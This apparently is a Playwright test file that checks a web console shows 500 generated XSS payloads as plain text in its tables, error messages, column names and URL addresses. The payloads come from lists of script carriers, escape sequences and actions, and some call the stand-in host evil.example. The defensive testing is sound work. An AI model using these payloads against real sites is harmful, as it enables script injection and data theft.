"""Five hundred texts that try to become markup or script, as keys, values, headers, errors and names, in a real Chromium: each is
shown as the text that it is, none runs, none is even refused by the page's policy, because none gets that far."""

from collections.abc import Iterator
from itertools import product

import pytest
from playwright.sync_api import expect

import mainstem
from mainstem.log.activity import note_activity
from mainstem.spark.checkpoint.flow_store import FlowStore
from mainstem.stem import Mainstem
from tests.needs import needs
from tests.workbench.console_browser import MS_MAX, WatchedPage, open_browser, watched_page
from tests.workbench.console_process import ConsoleProcess, running_console
from tests.workbench.ran_flows import began

pytestmark = [
    needs("chromium-headless-shell", command="chromium-headless-shell"),
    pytest.mark.starts_servers,
]

COUNT = 500
# What a script would do, how it would get to run, and what it would break out of.
DEEDS = [
    "taken=1",
    "alert(1)",
    "document.title='taken'",
    "import('data:text/javascript,taken=1')",
    "fetch('//evil.example')",
]
CARRIERS = [
    "<script>{0}</script>", '<img src=x onerror="{0}">', "<svg onload={0}>", "<iframe srcdoc='<script>{0}</script>'></iframe>",
    '<a href="javascript:{0}">x</a>', "<body onload={0}>", "<details open ontoggle={0}>", "<math><mtext><script>{0}</script></mtext></math>",
    '<object data="data:text/html,<script>{0}</script>"></object>', "<style>@import '//evil.example/{0}'</style>", "javascript:{0}",
    "<base href=//evil.example/{0}>", "<link rel=stylesheet href=//evil.example/{0}>", "<form action=javascript:{0}><button autofocus>",
    "<template><script>{0}</script></template>", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "<!--><script>{0}</script>-->",
    "<input onfocus={0} autofocus>", "<video><source onerror={0}>",
]  # fmt: skip
BREAKS = [
    "",
    '">',
    "'>",
    "</td></tr></table>",
    "</script>",
    "\u2028",
    "\u202e",
    "--><!--",
    "]]>",
    "\\u003c",
    "&lt;",
    "\x00",
    "</title>",
]
# The page's own notes of what the policy refused.
NOTE_REFUSALS = """
globalThis.refusals = [];
document.addEventListener("securitypolicyviolation", (event) => refusals.push(event.violatedDirective + " " + event.blockedURI));
"""
HARM = """({
  taken: globalThis.taken ?? null, refusals, title: document.title,
  elements: document.querySelectorAll(
    "#app script, #app iframe, #app object, #app embed, #app base, #app form[action], #app img, #app video, #app style, #app link, #app math, #app template"
  ).length,
  handlers: [...document.querySelectorAll("#app *")].filter((it) => it.getAttributeNames().some((name) => name.startsWith("on"))).length,
  scripts: [...document.querySelectorAll("#app a")].filter((it) => /^\\s*(javascript|data|vbscript):/i.test(it.getAttribute("href") ?? "")).length,
})"""


def payloads() -> list[str]:
    """Different ones, each with all of its parts at some place."""
    found = dict.fromkeys(
        f"{broken}{carrier.format(deed)}" for broken, carrier, deed in product(BREAKS, CARRIERS, DEEDS)
    )
    chosen = list(found)[:: len(found) // COUNT][:COUNT]
    assert len(chosen) == COUNT
    return chosen


PAYLOADS = payloads()


@pytest.fixture(scope="module")
def stem(tmp_path_factory) -> Iterator[Mainstem]:
    with mainstem.open(tmp_path_factory.mktemp("payloads") / "shop", upkeep="manual") as opened:
        topic = opened.create_topic("odd", schema="n INT, k STRING, v STRING, tags MAP<STRING, STRING>", key="k")
        topic.append(
            [
                {
                    "n": n,
                    "k": text,
                    "v": text,
                    "tags": {text: text},
                    "record": {"headers": [{"key": text, "value": b"<b>"}]},
                }
                for n, text in enumerate(PAYLOADS)
            ]
        )
        queue = topic.queue("mails")
        for message in queue.take(30):
            queue.reject(message.receipt, str(message.row["v"]))
        run = began(opened, "broken", sink=f"store {PAYLOADS[7]}")
        FlowStore(opened.home, "broken").end(run, "failed", [PAYLOADS[1], PAYLOADS[2], PAYLOADS[3]])
        for text in PAYLOADS[:500:42]:
            note_activity(opened.log, "flow", text, "failed", text, detail=text, hint=text, who=text)
        columns = ", ".join(f"`{text.replace('`', '')}` INT" for text in PAYLOADS[:40])
        opened.create_topic("columns", schema=columns).append([{}])
        yield opened


@pytest.fixture(scope="module")
def console(stem) -> Iterator[ConsoleProcess]:
    with running_console(stem.home) as running:
        yield running


@pytest.fixture(scope="module")
def page(console) -> Iterator[WatchedPage]:
    with open_browser() as browser:
        context = browser.new_context()
        context.add_init_script(NOTE_REFUSALS)
        with watched_page(context) as opened:
            yield opened


def assert_unharmed(page: WatchedPage) -> None:
    found = page.page.evaluate(HARM)
    title = found.pop("title")
    assert title != "taken"
    assert found == {"taken": None, "refusals": [], "elements": 0, "handlers": 0, "scripts": 0}
    assert (page.errors, page.dialogs) == ([], [])
    assert not page.is_wider_than_the_window


def visible(text: str) -> str:
    """As the page shows characters that have no shape."""
    return text.replace("\x00", "␀").replace("\u202e", "⟨U+202E⟩")


def open_all(page: WatchedPage, rows: int) -> list[str]:
    """Wait for so many rows, open every text that is cut, and return the text of each row."""
    page.page.locator(f"tbody tr >> nth={rows - 1}").wait_for(timeout=MS_MAX)
    page.page.evaluate("document.querySelectorAll('td .more').forEach(button => button.click())")
    expect(page.page.locator("td .more")).to_have_count(0, timeout=MS_MAX)
    found: list[str] = page.page.evaluate("Array.from(document.querySelectorAll('tbody tr'), row => row.textContent)")
    return found


def test_keys_values_and_headers_are_text(console, page):
    page.page.goto("about:blank")
    sql = "SELECT%20n%2C%20k%2C%20v%2C%20tags%2C%20record.headers%20FROM%20odd%20ORDER%20BY%20n"
    page.page.goto(f"{console.url}#/query?sql={sql}")
    shown = open_all(page, COUNT)
    assert [text for text, row in zip(PAYLOADS, shown, strict=True) if row.count(visible(text)) < 2] == []
    assert_unharmed(page)


def test_rows_of_a_topic_are_text(console, page):
    page.page.goto(f"{console.url}#/topics/odd")
    page.page.locator("tbody tr >> nth=10").wait_for(timeout=MS_MAX)
    assert_unharmed(page)


def test_errors_are_text(console, page):
    for address, shown in {
        "queues/odd/mails": "rejected",
        "flows/broken": "failed",
        "": "failed",
        "flows": "broken",
    }.items():
        page.page.goto(f"{console.url}#/{address}")
        expect(page.page.locator("main")).to_contain_text(shown, timeout=MS_MAX)
        assert_unharmed(page)


def test_names_of_columns_are_text(console, page):
    page.page.goto(f"{console.url}#/topics/columns")
    page.page.locator("th >> nth=40").wait_for(timeout=MS_MAX)
    assert_unharmed(page)


# Sets the address again and again, and waits each time until the page says what is wrong.
VISIT = """async (addresses) => {
  const problem = () => document.querySelector(".problem h1, .problem h2")?.textContent ?? "";
  const said = [];
  for (const address of addresses) {
    location.hash = "/";
    while (problem()) await new Promise(requestAnimationFrame);
    location.hash = address;
    while (!problem()) await new Promise(requestAnimationFrame);
    said.push(problem());
  }
  return said;
}"""


@pytest.mark.parametrize(
    "place", ["topics/{}", "flows/{}", "views/{}", "queues/odd/{}", "query?sql={}", "topics/odd?filter={}", "{}"]
)
def test_names_in_addresses_are_text(console, page, place):
    page.page.goto(f"{console.url}#/")
    page.page.locator("h1").first.wait_for(timeout=MS_MAX)
    given = PAYLOADS[:: len(PAYLOADS) // 12]
    encoded = page.page.evaluate("(texts) => texts.map(encodeURIComponent)", given)
    said = page.page.evaluate(VISIT, ["/" + place.format(text) for text in encoded])
    assert len(said) == len(given)
    assert all(said)
    assert_unharmed(page)


def test_search_takes_any_text(console, page):
    page.page.goto(f"{console.url}#/")
    page.page.locator("h1").first.wait_for(timeout=MS_MAX)
    page.page.keyboard.press("/")
    for text in PAYLOADS[::50]:
        page.page.locator("dialog input").fill(text.replace("\x00", ""))
        expect(page.page.locator("dialog .empty")).to_be_visible(timeout=MS_MAX)
    page.page.keyboard.press("Escape")
    expect(page.page.locator("dialog")).to_have_count(0, timeout=MS_MAX)
    assert_unharmed(page)
